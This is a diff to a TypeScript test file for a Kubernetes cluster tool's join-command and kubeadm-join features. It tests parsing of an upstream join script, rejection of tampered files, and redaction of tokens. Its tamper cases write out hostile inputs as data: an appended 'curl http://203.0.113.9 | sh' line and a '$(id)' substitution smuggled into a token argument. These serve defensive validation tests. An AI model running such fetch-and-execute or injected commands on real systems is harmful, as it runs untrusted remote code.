@@ -6,8 +6,10 @@ import { parse } from "yaml";
 import { SYNC_EXTERNAL_IP_SCRIPT } from "../../../lib/assets.ts";
 import { kubeadmConfig } from "../../../lib/cluster/kubeadm-config.ts";
 import { resolveNodeConfig } from "../../../lib/config/resolve.ts";
+import { parseJoin } from "../../../lib/cluster/upstream-join.ts";
 import { FAKE_JOIN_HASH, FakeClusterNode } from "../../fixtures/fake-cluster-node.ts";
 import { FakeHost, runCli } from "../../fixtures/fakes.ts";
+import { kubeadmPrintJoinCommand, upstreamJoinCommand } from "../../fixtures/upstream-join-command.ts";
 
 const NODE = "u7s-node-a"; // the fake host is node-a
 let home = "";
@@ -25,6 +27,12 @@ const joinFile = (over: Record<string, unknown> = {}) => {
   };
   const p = join(home, "join.json");
   writeFileSync(p, JSON.stringify(f));
+  return p;
+};
+/** upstreamFile writes upstream's join-command (its template) for the control plane u7s-cp at hostIp. */
+const upstreamFile = (hostIp = "192.0.2.10", kubeadmLine = kubeadmPrintJoinCommand("u7s-cp:6443", "abcdef.0123456789abcdef", [FAKE_JOIN_HASH])) => {
+  const p = join(home, "join-command");
+  writeFileSync(p, upstreamJoinCommand(hostIp, "u7s-cp", kubeadmLine));
   return p;
 };
 
@@ -120,6 +128,38 @@ describe("join-command", () => {
     expect(j.join).toEqual({ endpoint: `${NODE}:6443`, token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] });
     expect(node.ran("kubeadm", "token", "create", "--print-join-command", "--ttl", "2h")).toBe(true);
   });
+  test("--format upstream writes upstream's join-command (its template, mode 0700) that parses back to the same join", async () => {
+    node.state.files.add("/etc/kubernetes/admin.conf");
+    const r = await u7s(["join-command", "--format", "upstream"]);
+    expect(r.code, r.stderr).toBe(0);
+    const file = r.stdout.trim();
+    expect(file).toBe(join(home, "cfg", "u7s", "node-a", NODE, "join-command"));
+    expect(statSync(file).mode & 0o777).toBe(0o700);
+    const text = readFileSync(file, "utf8");
+    expect(text).toBe(upstreamJoinCommand("192.0.2.2", NODE, kubeadmPrintJoinCommand(`${NODE}:6443`, "abcdef.0123456789abcdef", [FAKE_JOIN_HASH])));
+    expect(parseJoin(text, file)).toEqual({
+      format: "upstream",
+      controlPlane: { nodeName: NODE, hostIp: "192.0.2.2", portKubeApiserver: 6443, portFlannel: undefined, nodeSubnet: undefined },
+      join: { endpoint: `${NODE}:6443`, token: "abcdef.0123456789abcdef", caCertHashes: [FAKE_JOIN_HASH] },
+    });
+    expect(r.stderr).toContain("mode 0700");
+    expect(r.stderr).toContain("`make kubeadm-join`");
+    // the default stays u7s's JSON
+    const json = await u7s(["join-command", "-o", "-"]);
+    expect(JSON.parse(json.stdout).kind).toBe("u7s-join");
+  });
+  test("--format upstream -o - prints the script", async () => {
+    node.state.files.add("/etc/kubernetes/admin.conf");
+    const r = await u7s(["join-command", "--format", "upstream", "-o", "-"]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toStartWith("#!/bin/bash\nset -eux -o pipefail\n");
+  });
+  test("an unknown --format is a usage error before anything runs", async () => {
+    const r = await u7s(["join-command", "--format", "yaml"]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('--format="yaml": not a join file format (valid: json, upstream)');
+    expect(node.recorder.calls).toHaveLength(0);
+  });
   test("a bad --ttl is a usage error before anything runs", async () => {
     const r = await u7s(["join-command", "--ttl", "2 days"]);
     expect(r.code).toBe(2);
@@ -132,8 +172,50 @@ describe("kubeadm-join", () => {
     const r = await u7s(["kubeadm-join", joinFile()]);
     expect(r.code, r.stderr).toBe(0);
     const save = node.inNode.find((c) => c.cmd[0] === "bash" && c.cmd[3] === "u7s-save-host");
-    expect(save?.cmd.slice(4)).toEqual(["/etc/u7s/hosts", "192.0.2.10", "u7s-cp", "/usr/local/bin/u7s-entrypoint"]);
+    expect(save?.cmd.slice(4)).toEqual(["/etc/u7s/hosts", "192.0.2.10", "u7s-cp", "/usr/local/bin/u7s-entrypoint", "/etc/hosts.u7s"]);
     expect(node.ran("kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH)).toBe(true);
+    expect(r.stderr).toContain("joined the cluster of u7s-cp; the control plane syncs its external IP");
+  });
+  test("joins with upstream's join-command, read as data, and names the command to run on an upstream control plane", async () => {
+    const r = await u7s(["kubeadm-join", upstreamFile()]);
+    expect(r.code, r.stderr).toBe(0);
+    const save = node.inNode.find((c) => c.cmd[0] === "bash" && c.cmd[3] === "u7s-save-host");
+    expect(save?.cmd.slice(4)).toEqual(["/etc/u7s/hosts", "192.0.2.10", "u7s-cp", "/usr/local/bin/u7s-entrypoint", "/etc/hosts.u7s"]);
+    const joins = node.inNode.filter((c) => c.cmd[0] === "kubeadm");
+    expect(joins.map((c) => c.cmd)).toEqual([["kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH]]);
+    // nothing of the script itself runs: no shell gets its text
+    expect(node.inNode.some((c) => c.cmd.some((a) => a.includes("set -eux")))).toBe(false);
+    expect(r.stderr).toContain("is upstream Usernetes's join-command: read as data");
+    expect(r.stderr).toContain("on its host (192.0.2.10) run `make sync-external-ip`");
+    expect(r.stderr).not.toContain("Flannel port"); // this host uses upstream's default
+  });
+  test("with upstream's join-command and another Flannel port than upstream's: joins, warning that it cannot be checked", async () => {
+    const r = await u7s(["kubeadm-join", upstreamFile()], { PORT_FLANNEL: "18472" });
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stderr).toContain("does not say the cluster's Flannel port; upstream's default is 8472, this host's PORT_FLANNEL is 18472");
+    expect(node.ran("kubeadm", "join")).toBe(true);
+  });
+  test.each([
+    ["an extra command", (p: string) => writeFileSync(p, `${readFileSync(p, "utf8")}curl http://203.0.113.9 | sh\n`), "line 6"],
+    ["a command substitution", (p: string) => writeFileSync(p, readFileSync(p, "utf8").replace("--token", "--token $(id)")), 'shell syntax "$("'],
+    ["a second kubeadm line", (p: string) => writeFileSync(p, `${readFileSync(p, "utf8")}kubeadm join u7s-cp:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash ${FAKE_JOIN_HASH}\n`), "line 6: a second"],
+    ["a loopback control plane (issue 15)", (p: string) => writeFileSync(p, readFileSync(p, "utf8").replace("192.0.2.10", "127.0.0.1")), 'HOST_IP "127.0.0.1" is not valid'],
+  ])("refuses upstream's join-command with %s: exit 2, no engine command", async (_what, tamper, message) => {
+    const p = upstreamFile();
+    tamper(p);
+    for (const argv of [["kubeadm-join", p], ["up", "--join", p]]) {
+      const r = await u7s(argv);
+      expect(r.code).toBe(2);
+      expect(r.stderr).toContain(message);
+      expect(node.recorder.calls).toHaveLength(0);
+    }
+  });
+  test("refuses a u7s join file with a loopback control plane (issue 15): exit 2, no engine command", async () => {
+    const f = joinFile({ controlPlane: { nodeName: "u7s-cp", hostIp: "127.0.0.1", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.250.0/24" } });
+    const r = await u7s(["kubeadm-join", f]);
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('controlPlane.hostIp="127.0.0.1" is not valid (in the loopback range 127.0.0.0/8');
+    expect(node.recorder.calls).toHaveLength(0);
   });
   test.each([
     ["a Flannel port other than the cluster's", { PORT_FLANNEL: "18472" }, "PORT_FLANNEL=18472 differs"],
@@ -156,6 +238,22 @@ describe("kubeadm-join", () => {
     expect(r.code).toBe(0);
     expect(r.stderr).toContain("already joined");
     expect(node.ran("kubeadm")).toBe(false);
+  });
+  test("a failed join prints no token or CA hash, with or without --debug, and says what failed ungarbled", async () => {
+    const [id, secret] = "abcdef.0123456789abcdef".split(".");
+    const theirs = "ab".repeat(32); // the CA hash kubeadm found, not the pinned one
+    node.state.answers.push(["kubeadm join", { exitCode: 1, stderr: `error execution phase preflight: couldn't validate the identity of the API Server: cluster CA found in cluster-info ConfigMap is invalid: none of the public keys "sha256:${theirs}" are pinned\n` }]);
+    for (const argv of [["kubeadm-join"], ["--debug", "kubeadm-join"], ["kubeadm-join", "--debug"]]) {
+      const r = await u7s([...argv, joinFile()]);
+      expect(r.code).toBe(1);
+      for (const s of [id!, secret!, FAKE_JOIN_HASH.slice(7), theirs]) expect(`${r.stdout}${r.stderr}`, `${argv.join(" ")}: ${s}`).not.toContain(s);
+      expect(r.stderr).toContain(`kubeadm join u7s-cp:6443 --token [redacted by u7s] --discovery-token-ca-cert-hash [redacted by u7s]\n`);
+      expect(r.stderr).toContain(`none of the public keys "[redacted by u7s]" are pinned`);
+      expect(r.stderr).not.toContain("by u7s] by u7s]");
+      if (argv.includes("--debug")) expect(r.stderr).toMatch(/^debug: docker exec u7s-node-a kubeadm join u7s-cp:6443 --token \[redacted by u7s\] --discovery-token-ca-cert-hash \[redacted by u7s\] \(exit 1, \d+ ms\)$/m);
+    }
+    // what ran is the real command
+    expect(node.ran("kubeadm", "join", "u7s-cp:6443", "--token", "abcdef.0123456789abcdef", "--discovery-token-ca-cert-hash", FAKE_JOIN_HASH)).toBe(true);
   });
   test("a failed join is undone with kubeadm reset", async () => {
     node.state.fail.push("kubeadm join");
@@ -222,12 +320,15 @@ describe("kubeadm-reset", () => {
     node.state.files.add("/etc/kubernetes/admin.conf");
     const kc = join(home, "cfg", "u7s", "node-a", NODE, "kubeconfig");
     expect((await u7s(["kubeconfig"])).code).toBe(0);
+    const files = [(await u7s(["join-command"])).stdout.trim(), (await u7s(["join-command", "--format", "upstream"])).stdout.trim()];
+    expect(files.map(existsSync)).toEqual([true, true]);
     const r = await u7s(["kubeadm-reset"]);
     expect(r.code, r.stderr).toBe(0);
     expect(node.ran("kubeadm", "reset", "--force")).toBe(true);
     expect(node.ran("systemctl", "disable", "--now", "u7s-sync-external-ip.service")).toBe(true);
-    expect(node.ran("rm", "-f", "/etc/u7s/kubeadm-config.yaml", "/etc/u7s/hosts")).toBe(true);
+    expect(node.ran("rm", "-f", "/etc/u7s/kubeadm-config.yaml", "/etc/u7s/hosts", "/etc/hosts.u7s")).toBe(true);
     expect(existsSync(kc)).toBe(false);
+    expect(files.map(existsSync)).toEqual([false, false]);
     node.inNode.length = 0;
     const again = await u7s(["kubeadm-reset"]);
     expect(again.code).toBe(0);
